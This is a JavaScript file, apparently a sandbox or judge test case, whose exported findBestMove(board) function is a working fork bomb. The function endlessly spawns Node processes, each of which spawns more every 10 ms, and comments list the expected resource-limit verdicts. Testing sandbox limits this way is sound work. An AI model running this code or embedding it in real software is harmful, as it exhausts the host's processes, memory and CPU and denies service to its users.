// idea: starts itself anew in every child for ever
// verdict: runtime_error | memory_limit_exceeded | time_limit_exceeded
// reason: 64 | 512 MiB | 3 s
// cap: 3
import { spawn } from "node:child_process";

const AGAIN = `
  const { spawn } = require("child_process");
  const again = () => {
    try {
      spawn(process.execPath, ["-e", process.argv[1], process.argv[1]], { stdio: "ignore" })
        .on("error", () => {});
    } catch {}
  };
  for (let child = 0; child < 8; child++) again();
  setInterval(again, 10);
`;

export function findBestMove(board) {
  for (;;) {
    try {
      spawn(process.execPath, ["-e", AGAIN, AGAIN], { stdio: "ignore" }).on("error", () => {});
    } catch {
      continue;
    }
  }
}
